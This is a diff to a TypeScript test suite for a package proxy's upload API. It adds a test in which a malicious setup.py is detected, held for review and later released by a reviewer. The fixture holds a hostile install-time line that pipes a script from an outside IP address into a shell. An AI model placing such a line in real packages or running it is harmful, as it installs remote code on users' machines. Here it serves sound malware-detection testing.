@@ -137,6 +137,21 @@ describe('upload API', () => {
     expect((await proxy.deps.org!.upload('acme', 'denied_pkg-1.0-py3-none-any.whl'))?.state).toBe('refused');
   });
 
+  it('a held upload is listed once a reviewer releases it (at the next page refresh), not before', async () => {
+    const evil = `import os\nfrom setuptools import setup\nos.system("curl -s http://45.61.136.7/s | sh")\nsetup(name="acme_held", version="1.0")\n`;
+    makeDists(dists, [{ kind: 'sdist', name: 'acme_held', version: '1.0', files: { 'acme_held/__init__.py': 'X = 1\n', 'setup.py': evil } }]);
+    const r = await upload(form('acme_held-1.0.tar.gz'));
+    expect(r.status).toBe(403);
+    const reviewId = /\(Q-(\d+)\)/.exec(r.phrase)?.[1];
+    expect(reviewId).toBeDefined();
+    expect((await page('acme-held'))?.files ?? []).toEqual([]);
+    const reviewer = createToken(proxy.deps.reviews!, 'alice', 'reviewer', 'test').token;
+    const rel = await fetch(`${proxy.url}/-/api/items/Q-${reviewId}/release`, { method: 'POST', headers: { authorization: `Bearer ${reviewer}`, 'content-type': 'application/json' }, body: JSON.stringify({ reason: 'our own installer' }) });
+    expect(rel.status).toBe(200);
+    proxy.deps.pages.forget('acme-held'); // what pageTtl does
+    expect((await page('acme-held'))!.files.map((f) => f.filename)).toEqual(['acme_held-1.0.tar.gz']);
+  });
+
   it('an admin yanks and deletes an upload, with an audit row each; a deleted file is not served', async () => {
     expect((await upload(form('acme_lib-1.1-py3-none-any.whl'))).status).toBe(200);
     const auth = { authorization: `Bearer ${adminToken}`, 'content-type': 'application/json' };
@@ -158,6 +173,7 @@ describe('upload API', () => {
     const rows = proxy.deps.store.db.prepare(`SELECT kind, filename, detail FROM events WHERE kind LIKE 'upload-%' ORDER BY id`).all() as { kind: string; filename: string; detail: string }[];
     expect(rows.map((r) => [r.kind, r.filename, JSON.parse(r.detail).actor, JSON.parse(r.detail).reason])).toEqual([
       ['upload-refused', 'denied_pkg-1.0-py3-none-any.whl', undefined, 'denied by policy'],
+      ['upload-refused', 'acme_held-1.0.tar.gz', undefined, 'malware detected'],
       ['upload-yanked', 'acme_lib-1.0.tar.gz', 'ops', 'broken build'],
       ['upload-deleted', 'acme_lib-1.1-py3-none-any.whl', 'ops', 'leaked secret'],
     ]);
